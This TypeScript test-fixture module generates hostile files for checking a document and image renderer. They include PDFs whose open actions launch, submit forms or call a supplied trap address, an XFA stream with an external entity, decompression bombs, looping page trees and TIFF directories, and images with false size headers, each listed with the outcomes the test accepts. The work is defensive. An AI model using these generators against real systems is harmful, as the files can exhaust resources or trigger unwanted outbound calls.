import { deflateSync } from 'node:zlib'
import { hugeWebp, lyingWebp } from './format-samples.ts'
import { jpeg, pdf, tiff } from './samples.ts'

/** Files made to do harm. `trap` is an address that must never be called. */

type Parts = Parameters<typeof pdf>[0]
const ONE_PAGE = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>']
const stream = (head: string, data: string | Uint8Array) => ({ head, stream: Buffer.from(data) })

/** One page with a black square, and whatever else the catalogue and the page say. */
function page(catalogue: string, entries: string, ...more: Parts[number][]): Uint8Array {
  return pdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    ...ONE_PAGE,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R ${entries} >>`,
    stream('<< >>', '20 20 60 60 re f'),
    ...more,
  ])
}

/** A page that is one picture of what its dictionary says. */
function picturePage(entries: string, data: Uint8Array): Uint8Array {
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    ...ONE_PAGE,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>',
    stream('<< >>', 'q 100 0 0 100 0 0 cm /I Do Q'),
    stream(`<< /Type /XObject /Subtype /Image ${entries} >>`, data),
  ])
}

/** A JPEG whose frame header claims the largest size there is. */
export function hugeJpeg(): Uint8Array {
  const bytes = Buffer.from(jpeg())
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  bytes.writeUInt16BE(65_500, frame + 5)
  bytes.writeUInt16BE(65_500, frame + 7)
  return bytes
}

/** A PNG of one colour: a few kilobytes that fill `side`² pixels. */
export function pngBomb(side: number): Uint8Array {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
    return c >>> 0
  })
  const chunk = (kind: string, data: Uint8Array) => {
    const body = Buffer.concat([Buffer.from(kind), data])
    let crc = 0xffffffff
    for (const byte of body) crc = (crcTable[(crc ^ byte) & 255] ?? 0) ^ (crc >>> 8)
    const out = Buffer.alloc(8 + body.length)
    out.writeUInt32BE(data.length)
    body.copy(out, 4)
    out.writeUInt32BE((crc ^ 0xffffffff) >>> 0, 4 + body.length)
    return out
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 1
  const rows = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 9 })
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', new Uint8Array()),
  ])
}

/** A TIFF whose last directory points back at its first. */
function loopingTiff(): Uint8Array {
  const bytes = Buffer.from(
    tiff({
      data: [Buffer.alloc(64 * 64, 0)],
      width: 64,
      height: 64,
      bits: [8],
      compression: 1,
      photometric: 1,
      copies: 2,
    }),
  )
  bytes.writeUInt32LE(bytes.readUInt32LE(4), bytes.length - 4)
  return bytes
}

function hugeTiff(): Uint8Array {
  return tiff({
    data: [Buffer.alloc(64)],
    width: 1_000_000,
    height: 1_000_000,
    bits: [1],
    compression: 4,
    photometric: 0,
  })
}

/** A HEIF container that promises a picture of the largest size and holds nothing of it. */
export function lyingHeic(): Uint8Array {
  const box = (kind: string, ...content: Uint8Array[]) => {
    const body = Buffer.concat(content)
    const head = Buffer.alloc(8)
    head.writeUInt32BE(8 + body.length)
    head.write(kind, 4, 'latin1')
    return Buffer.concat([head, body])
  }
  const hex = (text: string) => Buffer.from(text.replaceAll(' ', ''), 'hex')
  const full = (kind: string, version: number, ...content: Uint8Array[]) =>
    box(kind, Buffer.from([version, 0, 0, 0]), ...content)
  return Buffer.concat([
    box('ftyp', Buffer.from('heic'), hex('00000000'), Buffer.from('mif1heic')),
    full(
      'meta',
      0,
      full('hdlr', 0, hex('00000000'), Buffer.from('pict'), Buffer.alloc(13)),
      full('pitm', 0, hex('0001')),
      full('iloc', 0, hex('4400 0001 0001 0000 0001 00000000 7fffffff')),
      full('iinf', 0, hex('0001'), full('infe', 2, hex('0001 0000'), Buffer.from('hvc1'), Buffer.alloc(1))),
      full(
        'iprp',
        0,
        box('ipco', full('ispe', 0, hex('7fffffff 7fffffff'))),
        full('ipma', 0, hex('00000001 0001 01 01')),
      ),
    ),
  ])
}

/** name → file and the answers that are right: null for a page shown. */
export function hostileFiles(trap: string): Record<string, { bytes: Uint8Array; answers: readonly (string | null)[] }> {
  const deflated = deflateSync(Buffer.alloc(400_000_000, 0x20), { level: 9 })
  return {
    'javascript.pdf': {
      bytes: page(
        '/OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >>',
        '/AA << /O 5 0 R >>',
        `<< /S /JavaScript /JS (app.launchURL("${trap}js"); this.submitForm("${trap}form"); while (true) {}) >>`,
      ),
      answers: [null],
    },
    'launch.pdf': { bytes: page(`/OpenAction << /S /Launch /F (${trap}launch) >>`, ''), answers: [null] },
    'remote-goto.pdf': {
      bytes: page(`/OpenAction << /S /GoToR /F << /FS /URL /F (${trap}goto) >> /D [0 /Fit] >>`, ''),
      answers: [null],
    },
    'uri.pdf': {
      bytes: page(
        `/OpenAction << /S /URI /URI (${trap}uri) >> /URI << /Base (${trap}) >>`,
        `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (${trap}link) >> >>]`,
      ),
      answers: [null],
    },
    'submit-form.pdf': {
      bytes: page(`/OpenAction << /S /SubmitForm /F << /FS /URL /F (${trap}submit) >> >>`, ''),
      answers: [null],
    },
    'xfa.pdf': {
      bytes: page(
        '/AcroForm << /Fields [] /XFA 5 0 R >> /NeedsRendering true',
        '',
        stream(
          '<< >>',
          `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${trap}entity">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><draw><value><image href="${trap}xfa"/></value></draw>&e;</subform></template></xdp:xdp>`,
        ),
      ),
      answers: [null],
    },
    'external-stream.pdf': {
      bytes: picturePage(
        `/Width 10 /Height 10 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${trap}stream) >>`,
        Buffer.alloc(100),
      ),
      answers: [null],
    },
    'page-tree-loop.pdf': {
      bytes: pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 3 /Parent 3 0 R >>',
        '<< /Type /Pages /Kids [2 0 R] /Count 2147483647 /Parent 2 0 R >>',
      ]),
      answers: ['damaged', 'too_many_pages', 'no_such_page', null],
    },
    'inherit-loop.pdf': {
      bytes: pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>',
        '<< /Type /Page /Parent 2 0 R >>',
      ]),
      answers: ['damaged', null],
    },
    'huge-page.pdf': {
      bytes: pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...ONE_PAGE,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100000000 100000000] /Contents 4 0 R >>',
        stream('<< >>', '0 0 10 10 re f'),
      ]),
      answers: ['damaged', 'too_many_pixels', null],
    },
    'huge-picture.pdf': {
      bytes: picturePage(
        '/Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode',
        deflateSync(Buffer.alloc(1000)),
      ),
      answers: ['too_many_pixels'],
    },
    'huge-jpeg.pdf': {
      bytes: picturePage(
        '/Width 100 /Height 100 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode',
        hugeJpeg(),
      ),
      answers: ['too_many_pixels', 'damaged', null],
    },
    'deflate-bomb.pdf': {
      bytes: pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...ONE_PAGE,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R >>',
        stream('<< /Filter [/FlateDecode /FlateDecode] >>', deflateSync(deflated)),
      ]),
      answers: [null, 'engine', 'too_slow', 'damaged'],
    },
    'huge.jpg': { bytes: hugeJpeg(), answers: ['too_many_pixels'] },
    'bomb.png': { bytes: pngBomb(30_000), answers: ['too_many_pixels'] },
    // within the pixel limit: a few kilobytes that become 400 MB
    'allowed-bomb.png': { bytes: pngBomb(9900), answers: [null, 'damaged', 'too_slow'] },
    'loop.tif': { bytes: loopingTiff(), answers: [null] },
    'huge.tif': { bytes: hugeTiff(), answers: ['too_many_pixels'] },
    'lying-large.webp': { bytes: lyingWebp(16_000, 16_000), answers: ['too_many_pixels'] },
    'lying-small.webp': { bytes: lyingWebp(16, 16), answers: ['damaged', null] },
    'huge.webp': { bytes: hugeWebp(), answers: ['too_many_pixels'] },
    'lying.heic': { bytes: lyingHeic(), answers: ['heic', 'damaged', 'too_many_pixels'] },
  }
}
